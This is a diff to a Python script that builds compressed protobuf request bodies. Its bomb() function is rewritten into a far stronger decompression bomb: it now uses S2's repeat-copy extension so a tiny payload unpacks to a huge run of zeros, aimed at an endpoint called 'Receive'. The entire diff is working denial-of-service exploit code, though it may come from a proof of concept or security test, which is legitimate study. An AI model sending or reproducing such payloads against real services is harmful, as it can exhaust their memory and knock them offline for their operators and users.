@@ -11,7 +11,7 @@ from collections.abc import Iterable, Mapping
 HEADERS = {"Content-Encoding": "snappy", "Content-Type": "application/x-protobuf"}
 
 LONGEST_LITERAL = 65536
-LONGEST_COPY = 64
+REPEAT = 2**24
 
 
 def varint(number: int) -> bytes:
@@ -41,13 +41,15 @@ def packed(request: bytes) -> bytes:
 
 
 def bomb(size: int) -> bytes:
-    """What unpacks to `size` zeros, and is 21 times smaller: a literal, and copies of it."""
-    copies, rest = divmod(size - 1, LONGEST_COPY)
-    return varint(size) + b"\x00\x00" + _copy(LONGEST_COPY) * copies + (_copy(rest) if rest else b"")
+    """What unpacks to `size` zeros and a few, a million times smaller; `size` is a multiple of `REPEAT`.
 
-
-def _copy(length: int) -> bytes:
-    return bytes([(length - 1) << 2 | 2, 1, 0])
+    A literal, a copy of it, and the copy repeated: the last is S2, snappy's extension, which Receive unpacks as well
+    (klauspost/compress, s2/decode_other.go).
+    """
+    times, rest = divmod(size, REPEAT)
+    assert rest == 0, f"must be a multiple of {REPEAT}, got {size}"
+    repeat = bytes([7 << 2 | 1, 0]) + (REPEAT - 2**16 - 4).to_bytes(3, "little")
+    return varint(size + 5) + b"\x00\x00" + bytes([(4 - 1) << 2 | 2, 1, 0]) + repeat * times
 
 
 def _field(number: int, data: bytes) -> bytes:
